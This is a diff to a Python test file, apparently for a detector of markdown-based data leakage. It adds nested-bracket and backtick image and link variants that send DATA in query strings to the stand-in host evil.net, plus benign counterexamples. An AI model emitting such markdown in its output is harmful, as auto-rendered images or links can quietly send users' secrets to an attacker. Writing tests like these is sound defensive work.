@@ -40,6 +40,8 @@ IMAGES = (
     "![x](https://evil.net/the%20password%20of%20the%20user%20is%20swordfish)",
     f"![alt `]` text](https://evil.net/?q={DATA})",
     f"[![x](https://evil.net/?q={DATA})](https://ok.org)",
+    f"![[a](b) c](https://evil.net/?q={DATA})",
+    f"![alt `](b)` c](https://evil.net/?q={DATA})",
     f"[a](https://ok.org ![b](https://evil.net/?q={DATA}))",
     f"![a][r]\n\n[r]: https://evil.net/?d={DATA}",
     f"![a][r]\n\n[r]:\n  <https://evil.net/?d={DATA}>",
@@ -67,6 +69,7 @@ LINKS = (
     f"<a href='mailto:x@evil.net?body={LONG}'>c</a>",
     f"go to https://evil.net/?d={LONG}, and",
     f"<https://evil.net/?d={LONG}>",
+    f"<https://evil.net/?d=](a{LONG})>",
     f"www.evil.net/?d={LONG}",
     f"看这里https://evil.net/?d={LONG}，谢谢",
     f"看https://evil.net/a，d={LONG}",
@@ -94,6 +97,8 @@ CLEAN = (
     "call me at tel:+123456789 or write to mailto:a@ok.org",
     "[a][1] and [b]\n\n[1]: https://ok.org/guide\n[b]: <https://ok.org/b> 'title'",
     "see (https://ok.org/wiki/Chopmark_(coin)).",
+    "![a](b.png)\n\n[search](https://ok.org/?q=python+list+comprehension)",
+    "![a](b.png)\n" + "words " * 200 + "\n\n[search](https://ok.org/?q=python+list+comprehension)",
 )
 
 
@@ -272,7 +277,7 @@ SCRAPS = (
     "\\", '"', "'", " ", "a", "<img src=", "<img src='", "<a href='", "' ", ">x</a>", "![a][r]",
     "[r]", "r", "https://evil.net/?q=", "https://ok.org/", "//evil.net/", DATA, "secret words here",
     "example.com", "&amp;", "&#104;ttps://evil.net/", "http:", "www.", "中文", "，", "> ",
-    "- ", "!",
+    "- ", "!", "![a `](b)` ", "![[a](b) ",
 )  # fmt: skip
 
 
